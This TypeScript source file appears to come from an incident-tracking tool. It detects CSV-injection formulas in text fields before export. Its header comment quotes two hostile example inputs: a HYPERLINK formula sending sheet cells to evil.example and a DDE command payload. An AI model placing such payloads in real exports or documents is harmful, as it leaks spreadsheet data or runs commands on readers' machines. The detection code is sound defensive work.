/**
 * Frontmatter text a spreadsheet would run as a formula (bad input round 33). The evidence pack's
 * CSV files (`npm run evidence`: incidents, action items; opened by auditors in a spreadsheet) and
 * the trackers' CSV exports (`npm run follow-ups -- export --to jira|linear`) carry titles,
 * summaries and verifications as written, so an action item titled
 * `=HYPERLINK("https://evil.example/?"&A1,"Validate pool sizes")` was a live link sending the
 * sheet's cells away, and `@SUM(1+1)*cmd|" /C calc"!A0` a command (CSV injection, CWE-1236).
 * Refused at the source, where the writer can say what was meant, rather than altered in the
 * export (a `'` before it would reach Jira's tickets as text).
 *
 * A spreadsheet reads a cell as a formula when it starts with `=`, `+`, `-` or `@`. Only the
 * shapes that run something are taken, so that text such as `-5% error budget`, `+1 retry`,
 * `--dry-run was ignored` or a team handle `@acme/checkout` passes: `=` first, or `+`, `-`, `@`
 * starting a word that holds a call `(`, a pipe `|` (DDE) or a sheet reference `!`.
 */
const formulaStart = /^\s*(?:=|[+\-@]\S*[(|!])/;

/** The text fields of `data` (any depth) that start like a formula, with their paths. */
export function findSpreadsheetFormulas(data: unknown, path: (string | number)[] = []): { path: (string | number)[]; text: string }[] {
  if (typeof data === 'string') return formulaStart.test(data) ? [{ path, text: data }] : [];
  if (Array.isArray(data)) return data.flatMap((item, index) => findSpreadsheetFormulas(item, [...path, index]));
  if (data === null || typeof data !== 'object' || data instanceof Date) return [];
  return Object.entries(data).flatMap(([key, value]) => findSpreadsheetFormulas(value, [...path, key]));
}
